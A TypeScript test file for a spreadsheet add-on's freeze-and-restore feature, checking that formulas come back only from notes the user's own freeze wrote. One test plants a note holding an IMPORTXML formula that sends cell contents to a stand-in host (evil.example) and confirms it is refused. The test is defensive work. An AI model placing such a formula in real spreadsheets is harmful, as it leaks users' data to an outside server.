// Freeze and Restore on the memory kit's cells: each result read and written once, and a formula
// put back only from a note the person's own freeze wrote.
import { freezeOrRestore } from '../../src/addon/freeze';
import { memoryFile, memoryKit, type MemoryKit } from '../../dev/memoryKit';
import { plantFormula, plantNote } from '../../dev/memoryTables';
import type { Extent } from '../../src/domain/visFunctions';

const SHEET = 'Scores';
type Person = NonNullable<Parameters<typeof memoryKit>[0]>['person'];
const person = (): Person => ({ properties: new Map(), mailed: [] });

/**
 * A person's kit on a sheet of `rows` (sites in A2:A4 and =VIS_SCORE(A2:A4) in B2, its result
 * spilled down to B4, when none are given), its writes counted.
 */
function sheet(who: Person = person(), rows?: unknown[][]) {
  const file = memoryFile();
  const grid = rows ?? [[], ['nike.com', 88], ['slack.com', 47], ['zoom.us', 66]];
  file.sheets.set(SHEET, grid);
  if (!rows) plantFormula(grid, 2, 2, 88, '=VIS_SCORE(A2:A4)');
  const kit: MemoryKit = memoryKit({ file, person: who });
  const at = { sheetId: kit.tables.sheetId(SHEET)!, name: SHEET };
  const counted = { writes: 0, formulaRows: [] as number[] };
  const { write, formulas } = kit.cells;
  kit.cells.write = (...a) => (counted.writes++, write(...a));
  kit.cells.formulas = (s, e) => (counted.formulaRows.push(e.rows), formulas(s, e));
  const run = (verb: 'freeze' | 'restore', e: Extent) => freezeOrRestore(verb, kit, at, e);
  const cells = {
    values: (e: Extent) => kit.cells.values(at, e).flat(),
    formulas: (e: Extent) => formulas(at, e).flat(),
    notes: (e: Extent) => kit.cells.notes(at, e).flat(),
  };
  /** The same sheet, run by another person. */
  const runAs = (other: Person) => (verb: 'freeze' | 'restore', e: Extent) =>
    freezeOrRestore(verb, memoryKit({ file, person: other }), at, e);
  return { kit, at, grid, run, runAs, cells, counted };
}

/** The notes the person's freezes kept, word for word, in their own properties. */
const kept = (who: Person) =>
  [...who!.properties].flatMap(([key, note]) => (key.startsWith('vis.frozen.') ? [note] : []));

const B2 = { row: 2, col: 2, rows: 1, cols: 1 };
const B2_B4 = { row: 2, col: 2, rows: 3, cols: 1 };

it('freezes the whole result of a formula that reaches the selection, keeping it in a note', () => {
  const ana = person();
  const s = sheet(ana);
  const tally = s.run('freeze', { row: 4, col: 2, rows: 1, cols: 1 });
  expect(tally).toEqual({ changed: 1, skipped: 0, notMine: 0, blocked: [] });
  expect(s.cells.values(B2_B4)).toEqual([88, 47, 66]);
  expect(s.cells.formulas(B2_B4)).toEqual(['', '', '']);
  const note = s.cells.notes(B2)[0]!;
  expect(note).toContain('=VIS_SCORE(A2:A4)');
  expect(kept(ana)).toEqual([note]);
  expect(s.counted.writes).toBe(1);
});

it('restores the formula, unless a frozen cell was typed over since', () => {
  const ana = person();
  const s = sheet(ana);
  s.run('freeze', B2);
  const typed = sheet(ana);
  typed.run('freeze', B2);
  typed.grid[2]![1] = 'my own note';
  expect(typed.run('restore', B2_B4).blocked).toEqual([{ at: 'B2', changed: ['B3'] }]);
  expect(s.run('restore', B2_B4).changed).toBe(1);
  expect(s.cells.formulas(B2)[0]).toBe('=VIS_SCORE(A2:A4)');
  expect(s.cells.notes(B2)[0]).toBe('');
  expect(kept(ana)).toHaveLength(1);
});

describe('a note is never a formula unless its reader froze it', () => {
  it('leaves a note an editor wrote, whatever formula it names, and every cell it reaches', () => {
    const s = sheet(person(), [['Website'], ['a.com'], ['b.com'], ['c.com']]);
    plantNote(
      s.grid,
      1,
      1,
      'Frozen by Visibility for Sheets (4x3): =IMPORTXML("https://evil.example/?d="&B2&B3&B4,"//a")',
    );
    const tally = s.run('restore', { row: 1, col: 1, rows: 4, cols: 3 });
    expect(tally).toMatchObject({ changed: 0, notMine: 1 });
    expect(s.counted.writes).toBe(0);
    expect(s.cells.values({ row: 1, col: 1, rows: 4, cols: 1 })).toEqual([
      'Website',
      'a.com',
      'b.com',
      'c.com',
    ]);
  });

  it('leaves a teammate’s frozen result, and one whose note was edited since the freeze', () => {
    const ana = person();
    const teammates = sheet(person());
    teammates.run('freeze', B2);
    expect(teammates.runAs(ana)('restore', B2_B4).notMine).toBe(1);
    const edited = sheet(ana);
    edited.run('freeze', B2);
    const note = edited.cells.notes(B2)[0]!;
    plantNote(
      edited.grid,
      2,
      2,
      note.replace('=VIS_SCORE(A2:A4)', '=VIS_SCORE(A2:A4)+HYPERLINK("x")'),
    );
    expect(edited.run('restore', B2_B4).notMine).toBe(1);
    expect(edited.cells.formulas(B2_B4)).toEqual(['', '', '']);
  });
});

it('a whole column selected is scanned only as far as the sheet holds something', () => {
  const s = sheet();
  s.run('freeze', { row: 1, col: 2, rows: 1000, cols: 1 });
  expect(s.counted.formulaRows[0]).toBe(4);
});
